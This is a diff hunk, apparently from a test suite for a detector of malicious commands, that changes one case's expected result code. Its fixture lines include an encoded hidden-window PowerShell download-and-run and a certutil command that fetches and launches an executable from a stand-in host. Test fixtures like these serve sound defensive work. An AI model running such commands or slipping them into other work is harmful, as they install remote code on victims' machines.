@@ -188,7 +188,7 @@ thief windows-packed 1 <<'END'
 powershell -NoP -W Hidden -EncodedCommand aQB3AHIAIABoAHQAdABwAHMAOgAvAC8AYwBvAGwAbABlAGMAdAAuAGUAeABhAG0AcABsAGUALgBuAGUAdAAvAGUAIAB8ACAAaQBlAHgA
 ```
 END
-thief windows-certutil 0 <<'END'
+thief windows-certutil 2 <<'END'
 ```bat
 certutil -urlcache -split -f https://collect.example.net/p.exe %TEMP%\p.exe
 start "" %TEMP%\p.exe
